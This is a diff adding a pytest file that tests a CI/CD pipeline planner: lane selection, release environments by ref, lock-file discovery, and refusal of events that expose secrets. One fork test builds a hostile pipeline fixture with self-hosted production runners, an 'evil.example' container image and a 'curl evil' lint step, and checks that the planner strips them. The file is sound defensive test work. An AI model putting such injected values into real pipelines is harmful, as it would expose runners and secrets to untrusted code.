@@ -1,0 +1,191 @@
+"""What a pipeline file and an event become: which jobs run with which settings, and how far a release goes."""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from cicd_actions.pipeline import planning
+from cicd_actions.pipeline.planning import Event, Plan, RefusedEvent
+from cicd_actions.pipeline.toolchains import nearest_lock
+from cicd_actions.pipeline_file.reading import parse
+
+FILES = Path(__file__).resolve().parents[2] / "data" / "pipeline_files"
+SHOP, WORKSPACE, PLATFORM = ((FILES / f"{name}.yml").read_text("utf-8") for name in ("shop", "workspace", "platform"))
+TRACKED = {
+    SHOP: ["apps/api/uv.lock", "apps/web/pnpm-lock.yaml"],
+    WORKSPACE: ["uv.lock", "bun.lock", "backend/pyproject.toml", "frontend/package.json"],
+    PLATFORM: ["uv.lock", "frontend/pnpm-lock.yaml"],
+}
+PUSH = Event("push", "refs/heads/main", "a" * 40, "org/app", "main", ["apps/api/x.py"])
+PULL = dataclasses.replace(PUSH, name="pull_request", ref="refs/pull/1/merge", base="b" * 40)
+
+
+def plan(text: str, event: Event = PUSH, trusted: str = "", **changed: Any) -> Plan:
+    event = dataclasses.replace(event, **changed)
+    return planning.make(parse(text), parse(trusted) if trusted else None, event, TRACKED.get(text, []))
+
+
+def running(found: Plan) -> tuple[list[str], list[str], list[str]]:
+    return found.lanes, found.specs, found.clients
+
+
+@pytest.mark.parametrize(
+    ("files", "lanes", "specs", "clients"),
+    [
+        (["apps/api/x.py"], ["api"], ["api"], ["web"]),
+        (["apps/web/x.ts"], [], ["api"], ["web"]),
+        (["apps/web/x.ts", "infra/api.Dockerfile"], ["api"], ["api"], ["web"]),
+        (["README.md", "docs/x.png"], [], [], []),
+        (["apps/apix/y"], ["api"], ["api"], ["web"]),
+        (None, ["api"], ["api"], ["web"]),
+    ],
+)
+def test_make_pull_request_runs_the_lanes_it_touches(
+    files: list[str] | None, lanes: list[str], specs: list[str], clients: list[str]
+) -> None:
+    for name in ("pull_request", "merge_group"):
+        found = plan(SHOP, PULL, name=name, files=files)
+        assert running(found) == (lanes, specs, clients)
+        assert not found.release
+        assert "never releases" in found.why_release
+
+
+def test_make_pull_request_has_five_jobs_and_a_release_nine() -> None:
+    found = plan(SHOP, PULL)
+    plan_and_check = 2
+    assert plan_and_check + sum(map(len, running(found))) == 5
+    released = plan(SHOP)
+    approvals = [each for each in released.environments if each.get("approval-environment")]
+    assert plan_and_check + sum(map(len, running(released))) + 1 + len(released.environments) + len(approvals) == 9
+
+
+def test_make_lane_at_the_root_does_not_own_the_other_lanes_files() -> None:
+    assert running(plan(PLATFORM, PULL, files=["frontend/x.ts"])) == ([], ["api-3.12"], ["ui"])
+    assert running(plan(PLATFORM, PULL, files=["platform/x.py"])) == (["api-3.12", "api-3.13"], ["api-3.12"], ["ui"])
+    assert running(plan(PLATFORM, PULL, files=["packages/x.py"])) == (["api-3.12", "api-3.13"], ["api-3.12"], ["ui"])
+
+
+def test_make_two_lanes_of_one_folder_both_run() -> None:
+    assert running(plan(WORKSPACE, PULL, files=["frontend/x.ts"])) == (["end-to-end"], ["backend"], ["frontend"])
+    assert running(plan(WORKSPACE, PULL, files=["backend/x.py"])) == (["backend", "end-to-end"], ["backend"], ["frontend"])
+
+
+def test_make_push_runs_every_lane_unless_only_documentation_changed() -> None:
+    assert running(plan(SHOP, files=["apps/web/x.ts"])) == (["api"], ["api"], ["web"])
+    only = plan(SHOP, files=["README.md"])
+    assert running(only) == ([], [], [])
+    assert not only.release
+
+
+@pytest.mark.parametrize("name", ["pull_request_target", "workflow_run", "issue_comment"])
+def test_make_event_with_secrets_is_refused(name: str) -> None:
+    with pytest.raises(RefusedEvent, match="GitHub hands secrets to it"):
+        plan(SHOP, name=name)
+
+
+@pytest.mark.parametrize(
+    ("file", "name", "ref", "environments"),
+    [
+        ("shop", "push", "refs/heads/main", ["staging", "production"]),
+        ("shop", "workflow_dispatch", "refs/heads/main", ["staging", "production"]),
+        ("shop", "push", "refs/heads/other", []),
+        ("shop", "schedule", "refs/heads/main", []),
+        ("shop", "pull_request", "refs/heads/main", []),
+        ("workspace", "push", "refs/heads/main", ["staging"]),
+        ("workspace", "push", "refs/heads/main2", []),
+        ("platform", "push", "refs/heads/staging/x", ["staging"]),
+        ("platform", "push", "refs/heads/main", ["staging", "production"]),
+    ],
+)
+def test_make_release_goes_as_far_as_the_refs_say(file: str, name: str, ref: str, environments: list[str]) -> None:
+    found = plan((FILES / f"{file}.yml").read_text("utf-8"), name=name, ref=ref)
+    assert [each["name"] for each in found.environments] == environments
+    assert found.release == bool(environments)
+    assert [each["require-passed-in"] for each in found.environments] == ["", *environments][: len(environments)]
+
+
+def test_make_default_branch_is_a_name_and_not_a_pattern() -> None:
+    assert not plan(WORKSPACE, default_branch="v[1]", ref="refs/heads/v1").release
+    assert plan(WORKSPACE, default_branch="v[1]", ref="refs/heads/v[1]").release
+    assert not plan(WORKSPACE, default_branch="", ref="refs/heads/").release
+
+
+def test_make_fork_takes_runners_containers_and_release_from_the_base() -> None:
+    hostile = SHOP.replace("directory: apps/api", "directory: apps/api\n    runs-on: [self-hosted, production]").replace(
+        "postgres:17", "evil.example/postgres:17"
+    ).replace("lint: uv run", "lint: curl evil | uv run".replace(" | ", " "))  # fmt: skip
+    hostile = hostile.replace("version: 1", "version: 1\nruns-on: self-hosted")
+    found = plan(hostile, PULL, trusted=SHOP, fork=True)
+    assert {settings["runs-on"] for settings in found.jobs.values()} == {"ubuntu-latest"}
+    assert "evil.example" not in json.dumps([settings["services"] for settings in found.jobs.values()])
+    assert found.jobs["api"]["services"]["postgres"]["image"] == "postgres:17"
+    assert not found.release
+    assert not found.build
+    without = plan(hostile, PULL, fork=True)
+    assert {settings["runs-on"] for settings in without.jobs.values()} == {"ubuntu-latest"}
+    assert not any(settings["services"] for settings in without.jobs.values())
+    assert any("does not have the lane `api`" in note for note in without.notes)
+
+
+def test_make_release_on_pull_request_events_never_happens_whatever_the_ref() -> None:
+    for name in ("pull_request", "merge_group", "pull_request_review"):
+        assert not plan(SHOP, name=name).environments
+
+
+def test_make_lane_with_two_versions_is_two_jobs() -> None:
+    found = plan(PLATFORM)
+    assert (found.jobs["api-3.12"]["python"], found.jobs["api-3.13"]["python"]) == ("3.12", "3.13")
+    assert found.jobs["ui"]["client"]["spec"] == "api-3.12"
+
+
+def test_make_lock_at_the_root_is_found_and_the_manager_with_it() -> None:
+    jobs = plan(WORKSPACE).jobs
+    assert (jobs["backend"]["python-manager"], jobs["backend"]["python-lock"]) == ("uv", "uv.lock")
+    assert jobs["backend"]["install"] == [{"run": "uv sync --frozen", "directory": "backend"}]
+    assert (jobs["frontend"]["node-manager"], jobs["frontend"]["node-lock"]) == ("bun", "bun.lock")
+    assert jobs["frontend"]["install"] == [{"run": "bun install --frozen-lockfile", "directory": "."}]
+    shop = plan(SHOP).jobs["web"]
+    assert (shop["node-manager"], shop["node-lock"]) == ("pnpm", "apps/web/pnpm-lock.yaml")
+    assert shop["package-json"] == "apps/web/package.json"
+
+
+def test_nearest_lock_prefers_the_lanes_own_folder() -> None:
+    files = ["package-lock.json", "apps/web/pnpm-lock.yaml", "apps/uv.lock"]
+    assert nearest_lock("apps/web", files, "node") == "apps/web/pnpm-lock.yaml"
+    assert nearest_lock("apps/api", files, "node") == "package-lock.json"
+    assert nearest_lock("./apps/api", files, "python") == "apps/uv.lock"
+    assert nearest_lock("apps/web", files, "node", "npm") == "package-lock.json"
+    assert nearest_lock(".", [], "python") == ""
+
+
+def test_make_environment_has_every_service_with_its_own_gate() -> None:
+    staging, production = plan(PLATFORM).environments
+    assert list(staging["services"]) == list(parse(PLATFORM).services)
+    assert staging["services"]["api"]["health"] == [{"path": "/ready", "version-from": "json:$.version"}]
+    assert production["services"]["api"]["health"][0]["replicas"] == "4"
+    assert production["services"]["worker"]["repository"] == "ghcr.io/example/platform"
+    assert production["approval-environment"] == "production-approval"
+    assert (staging["gate-timeout"], staging["gate-stable-for"]) == ("10m", "1m")
+    assert staging["deploy-env"] == "AWS_REGION\nCLUSTER"
+    assert staging["migrate-timeout"] == "1h"
+    assert staging["schema-command"] == "alembic"
+
+
+def test_make_contract_migration_lifts_the_proof_of_the_rollback_and_nothing_else_does() -> None:
+    assert plan(SHOP).environments[1]["require-rollback"] == "true"
+    assert plan(SHOP).environments[0]["require-rollback"] == "recorded"
+    contract = "command: alembic upgrade head, allow-contract: true, backup-command: ./backup}"
+    text = SHOP.replace("command: alembic upgrade head}", contract)
+    assert [each["require-rollback"] for each in plan(text).environments] == ["false", "false"]
+
+
+def test_make_build_has_the_images_that_services_run() -> None:
+    found = plan(PLATFORM).build
+    assert list(found["images"]) == ["platform", "ui"]
+    assert found["images"]["platform"]["platforms"] == ["linux/amd64", "linux/arm64"]
+    assert found["docker"] is True
